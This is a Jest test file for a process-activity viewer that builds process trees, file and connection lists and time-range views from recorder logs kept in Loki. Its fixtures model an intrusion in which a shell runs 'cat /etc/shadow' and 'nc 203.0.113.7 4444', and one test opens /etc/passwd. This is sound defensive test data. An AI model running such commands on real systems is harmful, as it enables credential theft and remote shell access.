import { activityModelFromFrames, brushToRange, bucketCounts, buildActivityModel, entriesInRange, flattenTree, processActivity } from './capture';
import type { LogLine } from './alerts';
import { CAPTURE_ID, RECORDER_ENTRIES, activityEntry, logsFrame } from './lokiFrames.fixture';

const line = (e: Record<string, unknown>): LogLine => ({ timeMs: Number(e.ts), line: JSON.stringify(e), labels: {} });

describe('buildActivityModel', () => {
  it('builds the documented capture: tree, files, connections, order', () => {
    // Loki answers newest first: the model must not depend on the order.
    const frame = logsFrame(RECORDER_ENTRIES.map((e) => activityEntry(e)).reverse());
    const m = activityModelFromFrames([frame]);
    expect(m.malformed).toBe(0);
    expect(m.entries.map((e) => e.type)).toEqual(['fork', 'exec', 'open', 'exit', 'fork', 'exec', 'connect', 'exit']);
    expect(m.captureIds).toEqual([CAPTURE_ID]);
    // sh (31330) is known only by its forks: a root whose own parent is unknown.
    expect(m.roots).toHaveLength(1);
    const sh = m.processes[m.roots[0]!]!;
    expect(sh.pid).toBe(31330);
    const kids = sh.children.map((k) => m.processes[k]!);
    expect(kids.map((k) => [k.pid, k.name, k.cmdline, k.exitCode])).toEqual([
      [31337, 'cat', 'cat /etc/shadow', 0],
      [31340, 'nc', 'nc 203.0.113.7 4444', 1],
    ]);
    const cat = processActivity(m, kids[0]!.key);
    expect(cat.files.map((e) => e.target)).toEqual(['/etc/shadow']);
    const nc = processActivity(m, kids[1]!.key);
    expect(nc.connections.map((e) => [e.target, e.failed])).toEqual([['203.0.113.7:4444', true]]);
    expect(flattenTree(m).map((r) => [r.node.pid, r.depth])).toEqual([
      [31330, 0],
      [31337, 1],
      [31340, 1],
    ]);
    expect(flattenTree(m, new Set([sh.key]))).toHaveLength(1);
  });

  it('an exec whose fork is outside the window links by ppid; an unknown parent is a root with parentMissing', () => {
    const m = buildActivityModel([
      line({ ts: 1, pid: 10, tid: 10, name: 'bash', type: 'exec', ppid: 1, cmdline: 'bash' }),
      line({ ts: 2, pid: 11, tid: 11, name: 'ls', type: 'exec', ppid: 10, cmdline: 'ls' }),
    ]);
    expect(m.roots).toHaveLength(1);
    const bash = m.processes[m.roots[0]!]!;
    expect(bash.parentMissing).toBe(true);
    expect(bash.ppid).toBe(1);
    expect(bash.children.map((k) => m.processes[k]!.pid)).toEqual([11]);
    expect(m.processes[bash.children[0]!]!.parentMissing).toBe(false);
  });

  it('pid reuse: a pid seen after its exit is a new process; threads are not processes', () => {
    const m = buildActivityModel([
      line({ ts: 1, pid: 5, tid: 5, name: 'sh', type: 'fork', child_pid: 7, thread: false }),
      line({ ts: 1.5, pid: 5, tid: 5, name: 'sh', type: 'fork', child_pid: 6, thread: true }),
      line({ ts: 2, pid: 7, tid: 7, name: 'a', type: 'exec', ppid: 5, cmdline: 'a' }),
      line({ ts: 2.5, pid: 7, tid: 8, name: 'a', type: 'exit', code: 0, signal: 0 }),
      line({ ts: 3, pid: 7, tid: 7, name: 'a', type: 'exit', code: 0, signal: 0 }),
      line({ ts: 4, pid: 7, tid: 7, name: 'b', type: 'open', path: '/x', res: 3 }),
    ]);
    const sevens = m.processes.filter((p) => p.pid === 7);
    expect(sevens).toHaveLength(2);
    expect(sevens[0]!.exitTs).toBe(3); // the thread exit at 2.5 did not end it
    expect(sevens[1]!.name).toBe('b');
    expect(m.processes.some((p) => p.pid === 6)).toBe(false);
    expect(m.entries.find((e) => e.type === 'open')!.process).toBe(sevens[1]!.key);
  });

  it('refuses a late parent link that would make a cycle', () => {
    const m = buildActivityModel([
      line({ ts: 1, pid: 1, tid: 1, name: 'a', type: 'fork', child_pid: 2, thread: false }),
      line({ ts: 2, pid: 1, tid: 1, name: 'a', type: 'exec', ppid: 2, cmdline: 'a' }),
    ]);
    const a = m.processes.find((p) => p.pid === 1)!;
    expect(a.parent).toBeUndefined();
    expect(m.roots).toEqual([a.key]);
  });

  it('reads whole events too, counts malformed lines, drops duplicates of overlapping captures, filters one capture', () => {
    const event = { type: 'open', ts: 5, proc: { pid: 9, tid: 9, name: 'cat', uid: 0 }, open: { path: '/etc/passwd', res: -2, flags: 0 } };
    const dup = { capture_id: 'c2', ts: 6, pid: 9, tid: 9, name: 'cat', type: 'exit', code: 0, signal: 0 };
    const m = buildActivityModel([
      line(event),
      { timeMs: 1, line: '{oops', labels: {} },
      { timeMs: 1, line: JSON.stringify({ type: 'nope', pid: 1 }), labels: {} },
      line(dup),
      line({ ...dup, capture_id: 'c3' }),
    ]);
    expect(m.malformed).toBe(2);
    expect(m.duplicates).toBe(1);
    expect(m.entries[0]).toMatchObject({ type: 'open', target: '/etc/passwd', failed: true, pid: 9 });
    expect(buildActivityModel([line(dup), line({ ...dup, ts: 7, capture_id: 'c3' })], { captureId: 'c3' }).entries.map((e) => e.ts)).toEqual([7]);
  });

  it('is linear enough: 5k entries in well under 200 ms', () => {
    const lines: LogLine[] = [];
    for (let i = 0; i < 5000; i++) {
      const pid = 100 + Math.floor(i / 5);
      const k = i % 5;
      const e =
        k === 0
          ? { ts: i, pid: pid - 1, tid: pid - 1, name: 'sh', type: 'fork', child_pid: pid, thread: false }
          : k === 1
            ? { ts: i, pid, tid: pid, name: 'w', type: 'exec', ppid: pid - 1, cmdline: `w ${i}` }
            : k === 2
              ? { ts: i, pid, tid: pid, name: 'w', type: 'open', path: `/f/${i}`, res: 3 }
              : k === 3
                ? { ts: i, pid, tid: pid, name: 'w', type: 'connect', res: 0, proto: 'tcp', remote: { ip: '::1', port: 80 } }
                : { ts: i, pid, tid: pid, name: 'w', type: 'exit', code: 0, signal: 0 };
      lines.push(line(e));
    }
    const t0 = performance.now();
    const m = buildActivityModel(lines);
    expect(performance.now() - t0).toBeLessThan(200);
    expect(m.entries).toHaveLength(5000);
    expect(m.entries[3]!.target).toBe('[::1]:80');
  });
});

describe('brush', () => {
  const m = activityModelFromFrames([logsFrame(RECORDER_ENTRIES.map((e) => activityEntry(e)))]);
  it('narrows entries to the range, inclusive, either direction', () => {
    expect(entriesInRange(m.entries, { from: 1764801601201.4, to: 1764801601202.3 }).map((e) => e.type)).toEqual(['exec', 'open', 'exit']);
    expect(entriesInRange(m.entries, { from: 1764801603202.2, to: 1764801603201 }).map((e) => e.type)).toEqual(['fork', 'exec', 'connect']);
    expect(entriesInRange(m.entries, undefined)).toHaveLength(8);
    expect(entriesInRange(m.entries, { from: 0, to: 1 })).toHaveLength(0);
  });
  it('maps strip fractions to times, clamped', () => {
    expect(brushToRange(100, 200, 0.75, 0.25)).toEqual({ from: 125, to: 175 });
    expect(brushToRange(100, 200, -1, 2)).toEqual({ from: 100, to: 200 });
  });
  it('buckets entries over the span', () => {
    const b = bucketCounts(m.entries, m.from, m.to, 2);
    expect(b).toEqual([4, 4]);
    expect(bucketCounts(m.entries, 5, 5, 3)).toEqual([8, 0, 0]);
  });
});
